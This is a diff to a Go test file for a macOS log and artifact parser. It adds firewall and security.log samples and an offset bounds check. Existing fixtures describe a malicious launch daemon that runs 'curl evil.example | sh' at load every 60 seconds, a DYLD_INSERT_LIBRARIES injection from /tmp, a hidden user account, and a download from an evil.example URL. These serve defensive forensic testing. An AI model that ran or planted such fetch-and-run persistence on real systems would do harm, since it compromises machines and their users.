@@ -124,6 +124,10 @@ func macSamples() []sample {
 		{"macos.log", "log.ndjson", unifiedRecord + "\n" + `{"count":1,"finished":1}` + "\n", 1, 0, "@time=" + ann + "|action=login|outcome=failure|@user=root|src_ip=203.0.113.9|subsystem=com.openssh|pid=77|exe=/usr/sbin/sshd|severity=error|backtrace.frames=[{\"imageOffset\":1}]|@message=sshd[77]: Failed password for root from 203.0.113.9 port 22 ssh2"},
 		{"macos.log", "log.json", "[" + unifiedRecord + ",\n" + unifiedRecord + "]", 2, 0, "@time=" + ann},
 		{"macos.install", "install.log", "2025-11-20 13:00:00+01 mac installd[77]: PackageKit: ----- Begin install -----\n\tmore of it\n2025-11-20 13:00:01+01 mac installer[78]: Installed \"Evil\" (1.0)\n", 2, 0, "@host=mac|process=installd|pid=77|lines=2|@time=2025-11-20T12:00:00Z"},
+		{"syslog", "appfirewall.log", "Nov 19 04:07:35 mac.local socketfilterfw[112] <Info>: Drop box: Allow TCP LISTEN  (in:0 out:1)\nNov 19 04:07:36 mac.local --- last message repeated 1 time ---\n", 2, 0, "@host=mac.local|@source=network|process=socketfilterfw|pid=112|program=Drop box|verdict=Allow|protocol=TCP|action=listen|outcome=success|severity=info"},
+		{"syslog", "appfirewall.log", "Nov 19 04:07:36 mac.local Firewall[7]: Stealth Mode connection attempt to TCP 192.168.1.2:22 from 203.0.113.9:50110\n", 1, 0, "src_ip=203.0.113.9|src_port=50110|dst_ip=192.168.1.2|dst_port=22|action=block|outcome=failure|verdict=Deny"},
+		{"syslog", "appfirewall.log", "Nov 19 04:07:36 mac.local Firewall[7]: Deny sshd connecting from 203.0.113.9:50110 to port 22 proto=6\n", 1, 0, "program=sshd|src_ip=203.0.113.9|src_port=50110|dst_port=22|action=block|outcome=failure"},
+		{"syslog", "security.log", "Nov 19 19:11:57 secd[11] <Notice> [user{} ]: DeviceInCircle\nNov 19 19:11:57 --- last message repeated 3 time ---\n", 2, 0, "@host=web-1|process=secd|pid=11|severity=notice|@message=secd[11] <Notice> [user{} ]: DeviceInCircle"},
 		{"plist", "LaunchDaemons/com.example.update.plist", launchdSample, 1, 0, "@user=root|label=com.example.update|exe=/bin/sh|command=/bin/sh -c curl evil.example ¦ sh|runs_when=RunAtLoad, every 60 s|environment=API DYLD_INSERT_LIBRARIES=/tmp/x.dylib|@source=unit|@message=launch daemon com.example.update runs /bin/sh -c curl evil.example ¦ sh (RunAtLoad, every 60 s)"},
 		{"plist", "users/eve.plist", accountSample, 2, 0, "@user=eve|uid=499|password=set (not copied)|@kind=undated|@message=account eve uid 499 home /var/.eve shell /bin/bash with a password"},
 		{"plist", "Downloads.plist", safariSample, 2, 0, "url=https://evil.example/x.dmg|bytes=77|@kind=started|@time=2025-11-20T12:00:00Z"},
@@ -142,6 +146,9 @@ func TestMacSamples(t *testing.T) {
 				t.Error("a secret was copied")
 			}
 			for _, e := range got {
+				if e.Offset < 0 || e.Offset >= int64(len(s.text)) {
+					t.Errorf("offset %d of %d bytes", e.Offset, len(s.text))
+				}
 				for _, a := range e.Attributes {
 					if strings.Contains(a.Value, "hunter2") {
 						t.Errorf("a secret was copied into %s", a.Name)
